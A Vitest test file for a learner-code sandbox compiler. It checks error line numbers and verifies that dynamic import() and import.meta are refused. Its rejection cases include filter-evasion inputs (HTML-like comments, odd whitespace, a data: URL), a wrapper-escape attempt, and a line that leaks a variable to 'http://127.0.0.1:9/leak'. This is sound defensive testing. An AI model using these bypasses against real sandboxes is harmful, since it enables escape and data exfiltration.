import { describe, expect, it } from 'vitest';
import { compile, describeError, formatLearnerError } from './compile';
import { findModuleSyntax } from './dynamic-import';

async function errorOf(code: string) {
  const compiled = compile(code);
  if (!compiled.ok) return compiled.error;
  try {
    await compiled.run(undefined, undefined, undefined, undefined, console);
  } catch (error) {
    return describeError(error);
  }
  throw new Error('expected the code to fail');
}

describe('compile', () => {
  it('allows top-level await and returns what the code returns', async () => {
    const compiled = compile('const x = await Promise.resolve(20);\nreturn x + 1;');
    expect(compiled.ok).toBe(true);
    if (compiled.ok) expect(await compiled.run()).toBe(21);
  });

  it('reports a thrown error at the learner\'s line, not the wrapper\'s', async () => {
    expect(await errorOf('const a = 1;\nconst b = null;\n\nb.foo();')).toMatchObject({
      name: 'TypeError',
      line: 4,
    });
  });

  it('reports an error inside a callback at the callback\'s line', async () => {
    const code = ['const rows = [{ a: 1 }];', 'await null;', 'rows.map((r) => {', '  return r.b.c;', '});'].join('\n');
    expect(await errorOf(code)).toMatchObject({ name: 'TypeError', line: 4 });
  });

  it('reports the line of a throw after an await', async () => {
    const error = await errorOf('await new Promise((r) => setTimeout(r, 1));\n\nthrow new Error("bad fare");');
    expect(error).toMatchObject({ name: 'Error', message: 'bad fare', line: 3 });
    expect(formatLearnerError(error)).toBe('line 3: bad fare');
  });

  it('reports the line of a syntax error', async () => {
    const error = await errorOf('const a = 1;\nconst b = 2;\nconst c = ;\nconst d = 4;');
    expect(error).toMatchObject({ name: 'SyntaxError', line: 3 });
    expect(formatLearnerError(error)).toMatch(/^line 3: SyntaxError: /);
  });

  it('reports an unclosed block at the last line, with a hint', async () => {
    const error = await errorOf('const a = 1;\nfor (const x of [1]) {\n  console.log(x);\n');
    expect(error).toMatchObject({ name: 'SyntaxError', line: 3 });
    expect(error.message).toMatch(/every \(, \[ and \{ is closed/);
  });

  it('reports a syntax error after a complete multi-line block at its own line', async () => {
    const code = 'for (const x of [1]) {\n  console.log(x);\n}\nconst y = [1, 2;';
    expect(await errorOf(code)).toMatchObject({ name: 'SyntaxError', line: 4 });
  });

  it('cannot close the function early to run code outside it', async () => {
    const escape = compile('})\nglobalThis.escaped = true;\n(async function () {');
    expect(escape.ok).toBe(false);
    expect((globalThis as Record<string, unknown>).escaped).toBeUndefined();
  });

  it('describes a thrown non-Error without a line', () => {
    expect(formatLearnerError(describeError('oops'))).toBe('the cell threw "oops" (throw new Error(...) to get a line number)');
  });
});

describe('import() is refused before the code runs', () => {
  // Each was run through V8's Function constructor too: it compiles them all.
  it.each([
    ['await import("https://example.com/x.js")', 1],
    ['const a = 1;\nconst m = await import (url);', 2],
    ['const t = 1;\nimport.meta', 2],
    ['const t = 1;\nconsole.log(import.meta.url)', 2],
    ['const quote = /\'/; await import("https://example.com/x.js")', 1],
    ['const p = [...import("https://example.com/x.js")];', 1],
    ['await import /* hidden */ ("x")', 1],
    ['await import\n// hidden\n("x")', 1],
    // Annex B HTML-like comments: the hole the old text check had.
    ["const rows = 1;\nawait import<!--\n('http://127.0.0.1:9/leak?d=' + rows);", 2],
    ["await import<!--\n('data:text/javascript,globalThis.x=1')", 1],
    ["await import\n--> hidden to the end of the line\n('x')", 1],
    ["await import/*\n*/--> a close comment after a multi-line comment\n('x')", 1],
    ['await import\u2028("x")', 1],
    ['await import\u00a0("x")', 1],
    ['await import\ufeff("x")', 1],
    ['const f = async () => { await import(`x${1}`); };', 1],
    ['class A { static { this.p = import("x"); } }', 1],
    ['const o = { [import("x")]: 1 };', 1],
    ['label: for (;;) { import("x"); break label; }', 1],
    ['const t = `${import("x")}`;', 1],
    ['function f(a = import("x")) {}', 1],
    ['import("x", { with: { type: "json" } })', 1],
    ['x = 1\nimport("x")', 2],
  ])('%j -> line %i', (code, line) => {
    expect(findModuleSyntax(code)?.line).toBe(line);
    const compiled = compile(code);
    expect(compiled.ok).toBe(false);
    if (!compiled.ok) {
      expect(compiled.error.message).toMatch(/import\(\) is not available|import\.meta/);
      expect(compiled.error.line).toBe(line);
    }
  });

  it.each([
    ['db.import(1)'],
    ['db?.import(1)'],
    ['const important = 1; reimport(2)'],
    ['const imports = [];'],
    ['"import"'],
    // A real parse: words in strings, templates, comments and regexps are not calls.
    ['console.log("import(x)")'],
    ["// import('x')"],
    ['/* import.meta */ const a = 1;'],
    ['const t = `import("x")`;'],
    ['const r = /import\\(/;'],
    ['<!-- import("x")\nconst a = 1;'],
    ['const a = 1;\n--> import("x")'],
    ['const o = { import: 1 }; o.import;'],
  ])('%j is not an import', (code) => {
    expect(findModuleSyntax(code)).toBeNull();
    expect(compile(code).ok).toBe(true);
  });

  it('checks the body as the engine does: closing the function early is a syntax error, not a hiding place', () => {
    const compiled = compile('})\nimport("x");\n(async function () {');
    expect(compiled.ok).toBe(false);
    if (!compiled.ok) expect(compiled.error.message).not.toMatch(/could not be checked/);
  });

  it('refuses code the checker cannot parse even if the engine could (fails closed)', () => {
    expect(findModuleSyntax('const a = ;')).toMatchObject({ kind: 'unparsed', line: 1 });
  });
});
